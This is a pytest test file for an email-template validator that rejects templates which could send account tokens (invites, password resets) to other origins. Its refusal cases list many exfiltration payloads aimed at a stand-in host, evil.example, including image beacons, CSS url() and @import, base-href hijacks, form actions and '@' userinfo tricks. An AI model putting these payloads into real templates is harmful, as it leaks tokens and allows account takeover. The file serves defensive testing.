"""Where the token of a mail about an account may stand."""

import pytest

from serai.contexts.notifications.contract import ACCOUNT_KINDS, TokenMisplaced
from serai.contexts.notifications.gateways.defaults import load_defaults
from serai.contexts.notifications.model.bearers import find_origins
from serai.contexts.notifications.model.templates import Words

OURS = "https://shop.example"
EVIL = "https://evil.example"


@pytest.mark.parametrize("kind", sorted(ACCOUNT_KINDS))
def test_the_words_that_come_with_serai_send_a_token_nowhere(kind: str) -> None:
    (words,) = [words for known, words in load_defaults().items() if known == kind]
    assert find_origins("staff_invited", words) == set()


@pytest.mark.parametrize(
    ("text", "html", "origins"),
    [
        ("Code: ($token).", "", set()),
        ("$$token and ${token}", "", set()),
        (f"Go to {OURS}/r?t=$token.", "", {OURS}),
        (f"<{EVIL}/r#$token> {OURS}/r?t=$token", "", {EVIL, OURS}),
        ("Look at https://evil.example", '<img src="https://evil.example/a.png">', set()),
        (
            "T",
            f'<BR/><a class="b" href="{OURS}/r?a=1&amp;t=$token">go</a>',
            {OURS},
        ),
        ("T", f'<td>Code</td><td\n class="c">$token</td><img src="{EVIL}/a.png">', set()),
        ("T", f'<a href="{OURS}:8443/$token">{EVIL}/?$token</a>', {f"{OURS}:8443", EVIL}),
        ("T", "<style>p {color: red}</style><p>nothing here</p>", set()),
        ("T", "<p>$$token</p><script>1 < 2</script>", set()),
    ],
)
def test_a_token_stands_alone_or_in_a_link(text: str, html: str, origins: set[str]) -> None:
    assert find_origins("staff_invited", Words("S", text, html)) == origins


@pytest.mark.parametrize(
    "html",
    [
        f'<img src="{EVIL}/p.gif?t=$token">',
        f'<a href="{OURS}/" style="background:url({EVIL}/$token)">go</a>',
        f"<img src='{EVIL}/?t=<p>$token</p>'>",
        f'<img src="{EVIL}/?t=<p>$token</p>">',
        f'<img src="{EVIL}/?t= <p>$token</p>',
        f"<img src={EVIL}/?t=$token>",
        f"<a href={OURS}/$token>go</a>",
        f"<style>@import '{EVIL}/?t=$token';</style>",
        f'<style>a[href$="a"] {{background: url({EVIL}/a)}}</style><a href="{OURS}/$token">go</a>',
        f'<form action="{EVIL}/"><textarea>$token',
        f'<base href="{EVIL}"><a href="/$token">go</a>',
        f'<!-- <p>$token</p> --><img src="{EVIL}/">',
        f'<a href="{OURS}@evil.example/$token">go</a>',
        f'<a href="{OURS}\\@evil.example/$token">go</a>',
        '<a href="https://$token.evil.example/">go</a>',
        f'<a href="{OURS}$token">go</a>',
        f'<a href=" {OURS}/$token">go</a>',
        '<a href="//evil.example/$token">go</a>',
        "<a href=\"javascript:x('$token')\">go</a>",
        '<a href="mailto:evil@evil.example?subject=$token">go</a>',
        '<a href="$name/$token">go</a>',
        "<p $token>",
        "<$token>",
        "<p>evil.example/$token</p>",
        '<svg><a href="https://shop.example/$token">go</a></svg>',
    ],
)
def test_html_that_could_carry_a_token_away_is_refused(html: str) -> None:
    with pytest.raises(TokenMisplaced):
        find_origins("staff_invited", Words("S", "T", html))


@pytest.mark.parametrize(
    "text",
    [
        "evil.example/?t=$token", "www.evil.example/$token", "$token.evil.example",
        "$name$token", f"{EVIL}\u00a0$token", "$token@evil.example", f"{OURS}@evil.example/$token",
        f"{OURS}.evil.example$token", "//evil.example/$token",
    ],
)  # fmt: skip
def test_text_that_becomes_a_link_to_elsewhere_is_refused(text: str) -> None:
    with pytest.raises(TokenMisplaced):
        find_origins("staff_invited", Words("S", text, ""))


def test_a_subject_holds_no_token() -> None:
    with pytest.raises(TokenMisplaced):
        find_origins("password_reset", Words("$token", "T", ""))
